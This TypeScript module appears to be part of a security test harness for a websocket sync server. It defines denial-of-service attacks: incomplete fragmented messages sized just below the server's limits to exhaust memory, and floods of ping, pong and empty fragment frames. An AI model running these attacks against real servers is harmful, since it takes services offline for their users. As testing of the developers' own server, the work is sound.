import { randomBytes } from 'node:crypto'
import type { Socket } from 'node:net'
import { type Attack, rawConnection, sleep, type Target, taken, together } from './attack.ts'

/** Encodes the header of a masked websocket frame. The mask is zero, so the body stays unchanged. */
function frameHead(opcode: number, isFinal: boolean, length: number): Buffer {
  const first = (isFinal ? 0x80 : 0) | opcode
  const mask = [0, 0, 0, 0]
  if (length < 126) return Buffer.from([first, 0x80 | length, ...mask])
  if (length < 65_536) return Buffer.from([first, 0x80 | 126, length >> 8, length & 255, ...mask])
  const head = Buffer.alloc(10)
  head[0] = first
  head[1] = 0x80 | 127
  head.writeBigUInt64BE(BigInt(length), 2)
  return Buffer.concat([head, Buffer.from(mask)])
}

const [continuation, binary, ping, pong] = [0, 2, 9, 10] as const

/** Opens a TCP connection and upgrades it to a websocket, without a websocket library. */
async function upgraded(target: Target, path: string): Promise<Socket> {
  const connection = rawConnection(target)
  connection.write(
    [
      `GET ${path} HTTP/1.1`,
      'host: weft',
      'connection: Upgrade',
      'upgrade: websocket',
      'sec-websocket-version: 13',
      `sec-websocket-key: ${randomBytes(16).toString('base64')}`,
      '',
      '',
    ].join('\r\n'),
  )
  await Promise.race([new Promise((resolve) => connection.once('data', resolve)), sleep(5_000)])
  connection.resume()
  return connection
}

const partBytes = 65_536

/**
 * Sends messages that never end, so that the server keeps their parts in memory. Pongs keep the connections
 * open.
 */
const incomplete = (path: (target: Target) => string, connections: number, bytes: number): Attack => ({
  finding: 4,
  documents: [],
  prepare: async (target) => {
    const part = Buffer.concat([frameHead(continuation, false, partBytes), Buffer.alloc(partBytes, 1)])
    const first = Buffer.concat([frameHead(binary, false, 1), Buffer.of(0)])
    let open: Socket[] = []
    return async () => {
      open = open.filter(({ destroyed, writable }) => !destroyed && writable)
      await together(connections - open.length, async () => {
        const connection = await upgraded(target, path(target))
        connection.write(first)
        for (let sent = 0; sent < bytes; sent += partBytes) connection.write(part)
        open.push(connection)
        await taken(connection)
      })
      for (const connection of open) connection.write(frameHead(pong, true, 0))
      await sleep(100)
    }
  },
})

/**
 * Sizes of the sent parts in bytes. They are just below the limits of one message before and after
 * authentication.
 */
const unsignedBytes = 1_900_000
const signedBytes = 15_000_000

const incompleteUnsigned = incomplete(() => '/hocuspocus', 300, unsignedBytes)
const incompleteSigned = incomplete(({ token }) => `/sync/hostile/parts/main?token=${token}`, 40, signedBytes)

const times = (count: number, frame: Buffer): Buffer =>
  Buffer.concat(Array.from({ length: count }, () => frame))

/** Sends the same frames repeatedly, as fast as the server reads them. */
const repeated = (frames: Buffer): Attack => ({
  finding: 11,
  documents: [],
  prepare: async (target) => {
    let open: Socket[] = []
    return async () => {
      open = open.filter(({ destroyed, writable }) => !destroyed && writable)
      await together(flooders - open.length, async () => {
        const connection = await upgraded(target, `/sync/hostile/frames/main?token=${target.token}`)
        open.push(connection)
      })
      for (const connection of open)
        for (let sent = connection.writableLength; sent < queuedBytes; sent += frames.length)
          connection.write(frames)
      await sleep(10)
    }
  },
})

const flooders = 30
const queuedBytes = 1_000_000
/** An awareness message without states in 1,000 fragments, of which only the first one has content. */
const fragmented = Buffer.concat([
  Buffer.concat([frameHead(binary, false, 3), Buffer.of(1, 1, 0)]),
  times(998, frameHead(continuation, false, 0)),
  frameHead(continuation, true, 0),
])

const pongs = repeated(times(10_000, frameHead(pong, true, 0)))
const pings = repeated(times(10_000, frameHead(ping, true, 0)))
const fragments = repeated(times(10, fragmented))

export const messageAttacks = { incompleteUnsigned, incompleteSigned, pongs, pings, fragments }
